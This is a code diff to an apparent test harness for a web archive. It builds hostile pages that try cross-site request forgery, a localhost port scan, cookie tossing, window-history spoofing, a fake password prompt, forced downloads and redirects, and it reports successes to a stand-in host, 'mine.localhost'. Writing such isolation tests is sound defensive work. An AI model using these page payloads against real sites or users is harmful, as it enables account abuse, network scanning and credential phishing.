@@ -116,6 +116,9 @@ async fn converse(
     let _ = stream.write_all(answer.as_bytes()).await;
 }
 
+/// How many ways [`attack`] tries by script; each page else tries one.
+pub const TRIES: usize = 24;
+
 /// A page that tries whatever an archived page could do to its archive and its reader. `victim` is where an account is, and `leave`
 /// the address there that a POST signs out at.
 pub fn attack(lair: &Lair, victim: &str, leave: &str) -> String {
@@ -133,14 +136,18 @@ pub fn attack(lair: &Lair, victim: &str, leave: &str) -> String {
 <svg width="9" height="9"><image href="http://mine.localhost:{port}/svg.png" width="9" height="9"/></svg>
 <script>
 const mine = "http://mine.localhost:{port}", victim = "{victim}";
-self.won = [];
-self.win = (name) => {{ won.push(name); new Image().src = `${{mine}}/won/${{name}}`; }};
+
+self.win = (name) => {{ console.info(`won ${{name}}`); new Image().src = `${{mine}}/won/${{name}}`; }};
 const add = (name, told) => document.body.append(Object.assign(document.createElement(name), told));
 const ended = (thing, ...names) => new Promise((done) => names.forEach((name) => thing.addEventListener(name, done)));
 const tries = {{
   content_switch: () => add("script", {{ src: mine + "/live.js" }}),
   request_forgery: () => fetch(victim + "{leave}", {{ method: "POST", credentials: "include", mode: "no-cors" }}),
-  port_scan: () => fetch("http://127.0.0.1:{port}/port-scan", {{ mode: "no-cors" }}).then(() => win("port_scan")),
+  // A copy may answer in the place of any port; only who tells an open one from a closed one has scanned.
+  port_scan: async () => {{
+    const open = (at) => fetch(`http://127.0.0.1:${{at}}/port-scan`, {{ mode: "no-cors" }}).then(() => true, () => false);
+    if ((await open({port})) && !(await open({datagrams}))) win("port_scan");
+  }},
   same_domain: async () => /Ida/.test(await (await fetch(victim + "/desk", {{ credentials: "include" }})).text()) && win("same_domain"),
   same_domain_frame: () => {{ if (parent !== self && parent.document.body) win("same_domain_frame"); }},
   same_subdomain: () => {{ document.cookie = "tossed=1; path=/"; if (document.cookie.includes("tossed")) win("same_subdomain"); }},
@@ -152,11 +159,13 @@ const tries = {{
   events: () => ended(new EventSource(mine + "/events"), "error", "message"),
   xhr: () => {{ const asked = new XMLHttpRequest(); asked.open("GET", mine + "/xhr"); asked.send(); return ended(asked, "loadend"); }},
   form_action: () => document.querySelector("form").submit(),
-  history: () => {{ history.pushState({{}}, "", "/desk/taken-over"); if (location.pathname === "/desk/taken-over") win("history"); }},
+  // A frame may call itself what it likes; its reader reads the window's address.
+  history: () => {{ history.pushState({{}}, "", "/desk/taken-over"); if (top.location.pathname === "/desk/taken-over") win("history"); }},
   title: () => {{ document.title = "Taken over"; }},
   popup: () => {{ window.open(mine + "/popup"); }},
   dialog: () => {{ if (window.confirm("Your password?")) win("dialog"); }},
-  download: () => {{ const a = Object.assign(document.createElement("a"), {{ href: mine + "/download", download: "x" }}); document.body.append(a); a.click(); }},
+  // It leads the page away where it can: the others go first.
+  download: async () => {{ await new Promise((done) => setTimeout(done, 1200)); const a = Object.assign(document.createElement("a"), {{ href: mine + "/download", download: "x" }}); document.body.append(a); a.click(); }},
   // A realm of its own has everything that was taken from this one.
   realm: () => {{ const f = document.createElement("iframe"); document.body.append(f); return f.contentWindow.fetch(mine + "/realm", {{ mode: "no-cors" }}); }},
   script_frame: () => add("iframe", {{ srcdoc: `<img src="${{mine}}/srcdoc">` }}),
@@ -171,8 +180,12 @@ const tries = {{
   }},
 }};
 const patience = () => new Promise((done) => setTimeout(done, 1500));
-const one = async (attempt) => {{ try {{ await Promise.race([attempt(), patience()]); }} catch (error) {{ /* it did not work */ }} }};
-addEventListener("load", async () => {{ await Promise.all(Object.values(tries).map(one)); self.done = true; }});
+// Told at the console, which is heard from a frame that has left since, too.
+const one = async ([name, attempt]) => {{
+  console.info(`tried ${{name}}`);
+  try {{ await Promise.race([attempt(), patience()]); }} catch (error) {{ /* it did not work */ }}
+}};
+addEventListener("load", () => Promise.all(Object.entries(tries).map(one)));
 </script></body></html>"#
     )
 }
@@ -183,7 +196,7 @@ pub fn leaving(lair: &Lair) -> String {
     format!(
         r#"<!doctype html><title>On the way</title><p>The ferry leaves at noon from the lower quay, and nobody waits for it at the lighthouse.</p>
 <script>addEventListener("load", () => {{
-  self.done = true;
+  console.info("tried leaving");
   try {{ top.location = "http://mine.localhost:{port}/top"; }} catch (error) {{ /* not with its reader */ }}
   if (top !== self) setTimeout(() => {{ location = "http://mine.localhost:{port}/self"; }}, 1000);
 }});</script>"#
@@ -196,6 +209,6 @@ pub fn refreshing(lair: &Lair) -> String {
     format!(
         r#"<!doctype html><title>One moment</title><meta http-equiv="refresh" content="0;url=http://mine.localhost:{port}/refresh">
 <p>The timetable of the ferry has moved to another page, says the notice on the lower quay, and nobody knows which one.</p>
-<script>self.done = true</script>"#
+<script>console.info("tried refreshing")</script>"#
     )
 }
